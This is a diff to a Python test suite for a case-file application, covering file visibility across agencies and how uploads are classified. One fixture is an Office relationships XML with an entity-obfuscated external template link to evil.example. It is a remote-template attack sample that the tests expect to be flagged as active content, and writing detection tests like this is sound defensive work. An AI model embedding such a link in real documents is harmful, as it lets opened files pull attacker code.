@@ -27,6 +27,13 @@ PEOPLE = (
 )
 
 
+# As a program reads it, the mode is "External".
+ENCODED = (
+    "<Relationships><Relationship Id='1' Type='http://x/attachedTemplate' Target='http://evil.example/t.dotm'"
+    " TargetMode='&#69;xternal'/></Relationships>"
+)
+
+
 def readers(cast, file):
     return {who for who in PEOPLE if Attachment.objects.visible_to(cast[who]).filter(pk=file.pk).exists()}
 
@@ -67,6 +74,7 @@ def test_a_file_of_a_task_is_read_by_both_of_its_agencies_without_the_case(cast)
     assert readers(cast, file) == {"customs.officer", "customs.lead", "commerce.officer"}
     page = cast.browser("commerce.officer").get(f"/files/{file.pk}/")
     assert (page.status_code, case.number in page.text) == (200, False)
+    assert str(case.get_handling_display()) not in page.text
     assert file.title in cast.browser("customs.officer").get(f"/tasks/{task.pk}/").text
 
 
@@ -126,6 +134,10 @@ def test_the_type_is_found_in_the_content(cast, upload, media_type):
         (lambda: SimpleUploadedFile("empty.txt", b""), "empty"),
         (lambda: SimpleUploadedFile("cut.docx", b"PK\x03\x04" + b"\x00" * 100), "media_type"),
         (lambda: office(**{"word/vbaProject.bin": "macro"}), "active"),
+        (lambda: office(**{"word/VBAPROJECT.BIN": "macro"}), "active"),
+        (lambda: office(**{"word/_rels/document.xml.rels": ENCODED}), "active"),
+        (lambda: office(**{"word/_rels/document.xml.rels": "<Relationships"}), "broken"),
+        (lambda: office(**{"word/_rels/document.xml.rels": " " * 2_000_000}), "costly"),
         (lambda: office(**{"word/embeddings/oleObject1.bin": "x"}), "active"),
         (
             lambda: office(
